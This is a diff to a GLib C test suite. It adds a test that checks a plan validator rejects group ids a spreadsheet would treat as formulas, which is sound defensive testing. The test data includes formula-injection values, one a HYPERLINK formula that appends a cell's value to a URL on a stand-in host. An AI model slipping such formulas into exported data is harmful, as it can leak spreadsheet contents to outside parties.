@@ -250,6 +250,33 @@ test_title (void)
   g_assert_cmpstr (error->message, ==, "title: it has 121 letters; a title has 120 at most");
 }
 
+/* The ledger is for programs and guards nothing, so what a spreadsheet would work out doesn't come in. */
+static void
+test_incoming (void)
+{
+  static const char *const ids[]
+    = { "=HYPERLINK(\"http://x.test/?\"&A2,\"click\")", "+1", "-1", "@SUM(1,1)", "\t=1" };
+  g_autoptr (GainPlan) plan = gain_plan_new ();
+  g_autoptr (GError) error = NULL;
+
+  g_free (plan->title);
+  plan->title = g_strdup ("Plan");
+  gain_plan_add_group (plan, "pcp=1");
+  g_assert_true (gain_plan_check_incoming (plan, &error));
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
+    {
+      GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);
+
+      g_free (group->id);
+      group->id = g_strdup (ids[i]);
+      g_assert_false (gain_plan_check_incoming (plan, &error));
+      g_assert_error (error, GAIN_PLAN_ERROR, GAIN_PLAN_ERROR_INVALID);
+      g_assert_true (g_str_has_prefix (error->message, "groups[0].id: a spreadsheet could take"));
+      g_clear_error (&error);
+    }
+}
+
 /* Every field that can be spoken of has a name, and no two have the same. */
 static void
 test_paths (void)
@@ -420,6 +447,7 @@ main (int argc, char **argv)
   g_test_add_func ("/plan-field/set", test_set);
   g_test_add_func ("/plan-field/wrong", test_wrong);
   g_test_add_func ("/plan-field/title", test_title);
+  g_test_add_func ("/plan-field/incoming", test_incoming);
   g_test_add_func ("/plan-field/measure-names", test_measure_names);
   g_test_add_func ("/plan-field/residue-is-asked", test_residue_is_asked);
   g_test_add_func ("/plan-field/round-trip", test_round_trip);
